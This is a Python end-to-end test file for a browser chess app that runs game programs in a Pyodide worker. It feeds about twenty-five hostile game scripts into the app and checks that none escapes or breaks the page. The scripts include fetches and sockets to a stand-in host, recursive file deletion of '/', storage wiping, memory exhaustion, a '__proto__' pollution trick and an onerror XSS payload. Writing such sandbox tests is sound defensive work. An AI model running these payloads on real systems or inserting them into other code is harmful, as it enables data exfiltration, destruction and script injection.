"""Twenty programs that try to get out of their closed room, or to break the page: what each tries, and that it fails.

Each runs as the rules of a made game. Another host notes whether anything reaches it; a table that was made before
must be as it was, and the page must play on.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from e2e.conftest import BOOT_TIMEOUT
from e2e.games.test_made import expect_the_page_to_work, receive
from e2e.hands import point, record_of, set_table
from e2e.made import spoilt
from e2e.picture import small_boards
from e2e.rooms import OTHER_HOST, other_host
from e2e.watching import A_ROOM, refusals, requests_to

ASYNC = "import asyncio\nasyncio.ensure_future({what})"
"""Python in a worker has an event loop, which goes on after the program has been loaded."""
NESTED = "import js\njs.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of({script!r}))))"
HANDLERS = "import sys\nHANDLERS = sys.modules['pycore.bridge'].HANDLERS\n"

HOSTILE: dict[str, str] = {
    "loops": "while True: pass",
    "recurses": "def again(): return again()\nagain()",
    "recurses where nobody stops it": "import sys\nsys.setrecursionlimit(10**9)\ndef again(): return again()\nagain()",
    "fills the memory at once": "kept = bytearray(2_000_000_000)",
    "fills the memory step by step": "kept = []\nwhile True: kept.append(bytearray(10_000_000))",
    "fetches": "import js\njs.fetch('HOST')",
    "fetches synchronously": "import js\nasked = js.XMLHttpRequest.new()\nasked.open('GET', 'HOST', False)\nasked.send()",
    "fetches by Pyodide": "from pyodide.http import open_url\nopen_url('HOST')",
    "opens a WebSocket": "import js\njs.WebSocket.new('HOST'.replace('http', 'ws'))",
    "sends a beacon": "import js\njs.navigator.sendBeacon('HOST', 'x')",
    "starts a nested worker": NESTED.format(script="fetch('HOST', { mode: 'no-cors' })"),
    "opens a peer connection": "import js\njs.RTCPeerConnection.new()",
    "goes to another address": "import js\njs.location.assign('HOST')",
    "runs text as JavaScript": "import js\njs.eval(\"fetch('HOST')\")",
    "opens a socket": "import socket\nsocket.create_connection(('127.0.0.1', int('HOST'.split(':')[2].strip('/'))), 1)",
    "deletes what is stored": "import js\njs.indexedDB.deleteDatabase('chess-pilgrimage/1/')",
    "empties the caches and the local storage": "import js\njs.caches.keys()\njs.localStorage.clear()",
    "deletes all files": "import shutil\nshutil.rmtree('/', ignore_errors=True)",
    "replaces the door": HANDLERS
    + "for name in list(HANDLERS): HANDLERS[name] = lambda request: {'scene': '<script>'}",
    "forgets all modules": "import sys\nsys.modules.clear()",
    "ends the process": "import os\nos._exit(3)",
    "closes its worker": "import js\njs.self.close()",
    "floods the page": "import js\nfor _ in range(200): js.postMessage('x' * 1_000_000)",
    "names cells after parts of every object": (
        HANDLERS + "look = HANDLERS['load-game']\n"
        "def answer(request):\n"
        "    reply = look(request)\n"
        "    reply['board']['cells'][0]['id'] = '__proto__'\n"
        "    return reply\n"
        "HANDLERS['load-game'] = answer"
    ),
    "writes HTML": (
        HANDLERS + "look = HANDLERS['load-game']\n"
        "def answer(request):\n"
        "    reply = look(request)\n"
        "    reply['card']['goal'] = reply['card']['hook'] = '<img src=x onerror=\"window.alerted = 1\">'\n"
        "    return reply\n"
        "HANDLERS['load-game'] = answer"
    ),
}
"""What a program tries, and the lines that do it; HOST is the address of another host."""


@pytest.mark.long
@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_game_reaches_nothing(page: Page, site: str, what: str) -> None:
    page.context.watched.expect(A_ROOM, requests_to(OTHER_HOST), refusals("style-src-attr"))
    page.goto(site)
    set_table(page)
    point(page, "B1", "B3")
    expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.locator("html")).to_have_attribute("data-saved", "device")
    table, before = page.url, record_of(page)
    assert before["log"] == ["b1b3"]
    with other_host() as (host, asked):
        receive(page, site, spoilt(HOSTILE[what].replace("HOST", host)))
        page.get_by_role("button", name="Show the board").click()
        board, alert = small_boards(page), page.get_by_role("alert").filter(has_text=".")
        expect(board.or_(alert).first).to_be_visible(timeout=BOOT_TIMEOUT)
        print(f"{what}: {alert.first.inner_text() if alert.count() else 'the board is shown'}")
        page.wait_for_timeout(500)  # whatever it has begun may go on
        assert asked == [], "something left the room"
    assert page.evaluate("window.alerted") is None
    expect_the_page_to_work(page, site)
    page.goto(table)
    expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
    after: dict[str, Any] = record_of(page)
    assert after["log"] == before["log"]
